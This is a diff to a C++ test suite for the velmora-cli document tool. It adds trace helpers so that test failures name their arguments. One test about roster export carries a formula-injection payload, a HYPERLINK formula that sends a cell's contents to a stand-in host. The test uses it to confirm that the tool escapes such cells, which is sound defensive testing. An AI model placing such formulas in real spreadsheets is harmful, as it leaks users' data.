@@ -68,6 +68,22 @@ CliRun cli(const std::vector<std::string>& args, const std::string& env = "", co
   return cliWith({env, cwd, "", ""}, args);
 }
 
+// A path as a trace names it: without the fixtures' folder, or without
+// `folder` when given.
+std::string shortPath(const std::string& path, const std::string& folder = "") {
+  for (const std::string& prefix : {fixture(""), folder.empty() ? std::string() : folder + "/"})
+    if (!prefix.empty() && path.starts_with(prefix)) return path.substr(prefix.size());
+  return path;
+}
+
+// A command line as a trace names it: its paths short, an empty argument
+// shown as ''.
+std::string argsName(const std::vector<std::string>& args, const std::string& folder = "") {
+  std::string name;
+  for (const auto& a : args) name += (name.empty() ? "" : " ") + (a.empty() ? "''" : shortPath(a, folder));
+  return name.empty() ? "no arguments" : name;
+}
+
 // Copies fixtures into `dir` under the names given (fixture, name), making
 // the folders on the way.
 void layOut(const TempDir& dir, const std::vector<std::pair<std::string, std::string>>& copies) {
@@ -91,6 +107,7 @@ TEST(Cli, CheckPrintsProblemLinesAndExitCode) {
       {{fixture("sample.xdx"), fixture("wrong-version.xdx")}, 2, ""},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(argsName(c.files));
     CliRun r = cli([&] {
       std::vector<std::string> a{"check"};
       a.insert(a.end(), c.files.begin(), c.files.end());
@@ -136,7 +153,9 @@ TEST(Cli, RefusedAndUnreadableFilesGiveOneLineEach) {
        "LC_ALL=C.UTF-8 LANGUAGE=zh_CN:en"},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(argsName({c.file}, dir.dir().string()) + (c.env.empty() ? "" : " with " + c.env));
     for (const char* command : {"check", "dump"}) {
+      SCOPED_TRACE(command);
       CliRun r = cli({command, c.file}, c.env);
       EXPECT_EQ(r.exit, 2) << c.file;
       EXPECT_TRUE(r.out.empty());
@@ -187,6 +206,7 @@ TEST(Cli, ResaveRefusesFormalAndIncompleteDocuments) {
       {fixture("only-ver.xdx"), "保存失败！“课题名称”, “主持人”和“电子邮箱”必须填写！"},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(argsName({c.in}));
     CliRun r = cli({"resave", c.in, dir.path("x.xdx")});
     EXPECT_EQ(r.exit, 2);
     EXPECT_NE(r.err.find(c.message), std::string::npos) << r.err;
@@ -198,6 +218,7 @@ TEST(Cli, HelpForTheProgramAndEveryCommand) {
   for (auto args : std::vector<std::vector<std::string>>{{"--help"}, {"check", "--help"}, {"dump", "--help"},
                                                          {"resave", "--help"}, {"import", "--help"},
                                                          {"pdf", "--help"}, {"roster", "--help"}}) {
+    SCOPED_TRACE(argsName(args));
     CliRun r = cli(args);
     EXPECT_EQ(r.exit, 0) << args[0];
     EXPECT_NE(r.out.find("velmora-cli"), std::string::npos);
@@ -251,6 +272,7 @@ TEST(Cli, ManyDocumentsGiveTheSameLinesInTheirOrder) {
 TEST(Cli, DumpThenImportGivesBackTheSameRecord) {
   TempDir dir;
   for (const char* source : {"sample.xdx", "empty-items.xdx", "fresh-required.xdx"}) {
+    SCOPED_TRACE(source);
     CliRun dumped = cli({"dump", fixture(source)});
     writeFile(dir.path("r.json"), dumped.out);
     CliRun imported = cli({"import", dir.path("r.json"), dir.path("r.xdx")});
@@ -285,6 +307,7 @@ TEST(Cli, PdfWritesAFolderOfDocumentsIntoAnotherFolder) {
   EXPECT_EQ(r.err, dir.path("in/sub/c.xdx") + "：您选择的文档不是用本申报系统生成的\n");
   EXPECT_EQ(r.err.find("XDG_RUNTIME_DIR"), std::string::npos) << r.err;
   for (const char* made : {"out/a.pdf", "out/sub/b.pdf", "out/empty-items.pdf"}) {
+    SCOPED_TRACE(made);
     ASSERT_TRUE(std::filesystem::exists(dir.path(made))) << made;
     EXPECT_EQ(readFile(dir.path(made)).substr(0, 5), "%PDF-") << made;
   }
@@ -340,6 +363,7 @@ TEST(Cli, ArgumentsAreParsedStrictly) {
       {{"dump", "--", dash}, 0, ""},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(argsName(c.args));
     std::string cmd;
     for (const auto& a : c.args) cmd += " " + a;
     CliRun r = cli(c.args, "", dir.dir().string());
@@ -365,8 +389,10 @@ TEST(Cli, VersionAndHelp) {
   CliRun help = cli({"--help"});
   EXPECT_EQ(help.exit, 0);
   for (const char* word : {"check", "dump", "resave", "import", "pdf", "roster", "--json", "--out-dir", "--out FILE",
-                           "--version", "--help", "IN OUT.pdf", "JSON OUT"})
+                           "--version", "--help", "IN OUT.pdf", "JSON OUT"}) {
+    SCOPED_TRACE(word);
     EXPECT_NE(help.out.find(word), std::string::npos) << word;
+  }
   EXPECT_EQ(cli({"-h"}).out, help.out);
 }
 
@@ -381,6 +407,7 @@ TEST(Cli, FoldersWithoutDocumentsAreNoSilentSuccess) {
            {"check", "--json", notes},
            {"roster", empty, "--out", dir.path("r.csv")},
            {"pdf", "--out-dir", dir.path("pdf"), notes}}) {
+    SCOPED_TRACE(argsName(args, dir.dir().string()));
     CliRun r = cli(args);
     EXPECT_EQ(r.exit, 2) << args[0];
     EXPECT_EQ(r.out, "") << args[0];
@@ -442,6 +469,7 @@ TEST(Cli, ATerminalGetsASummaryLine) {
       {{"roster", dir.path("in"), "--out", dir.path("r.csv")}, 2},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(argsName(c.args, dir.dir().string()));
     CliRun shown = cliOnTerminal(c.args);
     EXPECT_EQ(shown.exit, c.exit) << c.args[1];
     // The summary closes the output.
@@ -494,9 +522,7 @@ TEST(Cli, HelpAndUsageErrorsReadAsChinese) {
       {{"pdf", "--help"}, 100},  {{"check", "--help"}, 50},
   };
   for (const Case& c : cases) {
-    std::string cmd;
-    for (const auto& a : c.args) cmd += " " + a;
-    SCOPED_TRACE(cmd + " in " + std::to_string(c.columns) + " columns");
+    SCOPED_TRACE(argsName(c.args) + (c.columns ? " in " + std::to_string(c.columns) + " columns" : ", piped"));
     const CliRun r = c.columns ? cliOnTerminal(c.args, c.columns) : cli(c.args);
     EXPECT_EQ(r.exit, 0);
     const std::size_t width = c.columns ? c.columns : 80;
@@ -514,8 +540,10 @@ TEST(Cli, HelpAndUsageErrorsReadAsChinese) {
       }
     }
     EXPECT_GT(widest, width - 12) << "the lines use the width they have";
-    for (const char* english : {"REQUIRED", "required", "Usage", "OPTIONS", "Positionals", "SUBCOMMAND"})
+    for (const char* english : {"REQUIRED", "required", "Usage", "OPTIONS", "Positionals", "SUBCOMMAND"}) {
+      SCOPED_TRACE(english);
       EXPECT_EQ(r.out.find(english), std::string::npos) << english;
+    }
   }
   EXPECT_NE(cli({"dump", "--help"}).out.find("用法: velmora-cli dump [选项] FILE\n"), std::string::npos);
   EXPECT_NE(cli({"resave", "--help"}).out.find("用法: velmora-cli resave [选项] IN OUT\n"), std::string::npos);
@@ -536,6 +564,7 @@ TEST(Cli, HelpAndUsageErrorsReadAsChinese) {
       {{"pdf", "--paper", "a3", sample, "x.pdf"}, "velmora-cli：参数错误（--paper: 纸张只能是 a4 或 letter）"},
   };
   for (const Error& e : errors) {
+    SCOPED_TRACE(argsName(e.args));
     const CliRun r = cli(e.args);
     EXPECT_EQ(r.exit, 2);
     EXPECT_EQ(linesOf(r.err).at(0), e.first);
@@ -549,6 +578,7 @@ TEST(Cli, FilesThatCannotBeWrittenAreNamedInTheMessage) {
   writeFile(dir.path("r.json"), R"({"ProjectName":"课题","Presider":"王","ContactMail":"w@x.cn"})");
   for (const auto& args : std::vector<std::vector<std::string>>{{"resave", fixture("sample.xdx"), out},
                                                                 {"import", dir.path("r.json"), out}}) {
+    SCOPED_TRACE(argsName(args, dir.dir().string()));
     CliRun r = cli(args, "LC_ALL=C");
     EXPECT_EQ(r.exit, 2) << args[0];
     EXPECT_EQ(r.err, out + "：无法写入文件“" + out + "”：No such file or directory\n") << args[0];
@@ -575,6 +605,7 @@ TEST(Cli, ImportRefusesInvalidJsonWithItsPosition) {
        "JSON 格式错误（第 1 行第 1048583 列）：键“" + std::string(60, 'k') + "…”重复\n"},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(rowName(c.json));
     writeFile(dir.path("in.json"), c.json);
     CliRun r = cli({"import", dir.path("in.json"), dir.path("out.xdx")});
     EXPECT_EQ(r.exit, 2) << c.json;
@@ -704,12 +735,16 @@ TEST(Cli, RosterListsEveryDocumentAsWorkbookAndCsv) {
       {"R5", s("01062345678")},
   };
   for (const auto& [ref, cell] : expected) {
+    SCOPED_TRACE(ref);
     ASSERT_TRUE(sheet.cells.count(ref)) << ref;
     EXPECT_EQ(sheet.cells[ref], cell) << ref << ": " << sheet.cells[ref].type << " " << sheet.cells[ref].value;
   }
   // A refused document has nothing but its file, status and message; empty
   // fields are no cells at all.
-  for (const char* empty : {"C4", "D4", "E4", "F4", "R4", "S2", "G5", "Q5"}) EXPECT_FALSE(sheet.cells.count(empty)) << empty;
+  for (const char* empty : {"C4", "D4", "E4", "F4", "R4", "S2", "G5", "Q5"}) {
+    SCOPED_TRACE(empty);
+    EXPECT_FALSE(sheet.cells.count(empty)) << empty;
+  }
 
   CliRun csv = cli({"roster", a, c, d, "--out", dir.path("r.csv")});
   EXPECT_EQ(csv.exit, 2);
@@ -727,6 +762,7 @@ TEST(Cli, RosterListsEveryDocumentAsWorkbookAndCsv) {
   EXPECT_EQ(other.exit, 2);
   EXPECT_EQ(other.err, dir.path("r.ods") + "：名册只能写成 .xlsx 或 .csv 文件\n");
   for (const char* name : {"no/such/r.xlsx", "no/such/r.csv"}) {
+    SCOPED_TRACE(name);
     CliRun failed = cli({"roster", a, "--out", dir.path(name)}, "LC_ALL=C");
     EXPECT_EQ(failed.exit, 2) << name;
     EXPECT_EQ(failed.err, dir.path(name) + "：无法写入文件“" + dir.path(name) + "”：No such file or directory\n");
@@ -766,6 +802,7 @@ TEST(Cli, PdfOutDirRefusesDocumentsThatWouldWriteTheSameFile) {
       {{ax, ax, by}, ""},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(argsName(c.inputs, dir.dir().string()));
     std::filesystem::remove_all(out);
     std::vector<std::string> args{"pdf", "--out-dir", out};
     args.insert(args.end(), c.inputs.begin(), c.inputs.end());
@@ -842,6 +879,7 @@ TEST(Cli, BatchesReportEveryUnreadableFileAndFolder) {
 #endif
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(argsName(c.args, dir.dir().string()));
     CliRun r = cliWhereModesApply(dir, c.args, "LC_ALL=C");
     EXPECT_EQ(r.exit, 2) << c.args[0] << " " << c.args[1];
     EXPECT_EQ(r.err, c.err) << c.args[0] << " " << c.args[1];
@@ -902,6 +940,7 @@ TEST(Cli, OutputsNeverReplaceAnInputOrADocument) {
            "”，不能覆盖\n", dir.path("r.json"), json},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(argsName(c.args, dir.dir().string()));
 #ifndef VELMORA_CLI_PDF
     if (c.pdf) continue;
 #endif
@@ -938,6 +977,7 @@ TEST(Cli, OutputsNeverReplaceAnInputOrADocument) {
       {{"resave", doc, ""}, "velmora-cli：输出文件名为空\n"},
   };
   for (const Refused& c : refusals) {
+    SCOPED_TRACE(argsName(c.args, dir.dir().string()));
     CliRun r = cli(c.args);
     EXPECT_EQ(r.exit, 2) << c.args[0] << " " << c.args.back();
     EXPECT_EQ(r.err, c.err);
@@ -969,11 +1009,13 @@ TEST(Cli, NothingOfAFileThatIsNoXmlDocumentIsQuoted) {
       {"empty", "", "文件为空，不是申报文档"},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(c.name);
     writeFile(dir.path(c.name), c.bytes);
     const std::string link = dir.path(c.name + ".xdx");
     std::filesystem::create_symlink(dir.path(c.name), link);
     for (const std::vector<std::string>& args : std::vector<std::vector<std::string>>{
              {"check", link}, {"check", "--json", link}, {"dump", link}}) {
+      SCOPED_TRACE(argsName(args, dir.dir().string()));
       CliRun r = cli(args);
       EXPECT_EQ(r.exit, 2) << c.name;
       EXPECT_EQ((r.out + r.err).find(secret), std::string::npos) << c.name << ": " << r.out << r.err;
@@ -1019,6 +1061,7 @@ TEST(Cli, ImportReadsNoMoreThanItsLimitFromAnySource) {
       {"a device without end", "/dev/zero", "", tooLarge},
   };
   for (const auto& c : cases) {
+    SCOPED_TRACE(c.name);
     CliRun r = cliWith({"", "", c.input, ""}, {"import", c.file, dir.path("out.xdx")});
     EXPECT_EQ(r.exit, 2) << c.name;
     EXPECT_EQ(r.err, c.file + "：" + c.err) << c.name;
@@ -1043,10 +1086,10 @@ TEST(Cli, AFifoOutputIsWrittenIntoNotReplaced) {
       {{"pdf", "doc.xdx", "out.pdf"}, "%PDF", true},
   };
   for (const Case& c : cases) {
+    SCOPED_TRACE(argsName(c.args));
 #ifndef VELMORA_CLI_PDF
     if (c.pdf) continue;
 #endif
-    SCOPED_TRACE(c.args[0]);
     const std::string out = dir.path(c.args.back());
     std::filesystem::remove(out);
     std::filesystem::remove(dir.path("got"));
@@ -1108,8 +1151,10 @@ TEST(Cli, FileNamesThatAreNoUtf8) {
   xmlDocPtr parsed = xmlReadMemory(strings.data(), static_cast<int>(strings.size()), nullptr, nullptr, XML_PARSE_NONET);
   EXPECT_NE(parsed, nullptr) << "the workbook's shared strings are no valid XML";
   if (parsed) xmlFreeDoc(parsed);
-  for (const std::string& shown : {zhangShown, liShown, brokenShown})
+  for (const std::string& shown : {zhangShown, liShown, brokenShown}) {
+    SCOPED_TRACE(shortPath(shown, dir.dir().string()));
     EXPECT_NE(strings.find(shown), std::string::npos) << shown;
+  }
 
 #ifdef VELMORA_CLI_PDF
   // One PDF each, named by the documents' own bytes.
@@ -1163,13 +1208,16 @@ TEST(Cli, RosterCellsAreNeverFormulas) {
   const std::string row = table.substr(table.find("\r\n") + 2);
   EXPECT_TRUE(row.starts_with(dir.path("h.xdx") + ",problems,")) << row;
   for (const std::string& cell : {std::string(",'-2+3,"), std::string(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点\"\")\",'@SUM(1+1),'\t=1+1,"),
-                                  std::string(",-5,'-1+1,"), std::string(",'+8613800000000,")})
+                                  std::string(",-5,'-1+1,"), std::string(",'+8613800000000,")}) {
+    SCOPED_TRACE(rowName(cell));
     EXPECT_NE(row.find(cell), std::string::npos) << cell << " in " << row;
+  }
 
   CliRun xlsx = cli({"roster", dir.path("h.xdx"), "--out", dir.path("r.xlsx")});
   EXPECT_EQ(xlsx.exit, 1) << xlsx.err;
   SheetContent sheet = readWorkbook(dir.path("r.xlsx"));
   for (const char* ref : {"E2", "F2", "G2", "H2", "N2", "O2", "R2"}) {
+    SCOPED_TRACE(ref);
     ASSERT_TRUE(sheet.cells.count(ref)) << ref;
     EXPECT_EQ(sheet.cells[ref].type, "s") << ref << " " << sheet.cells[ref].value;  // never a formula
   }
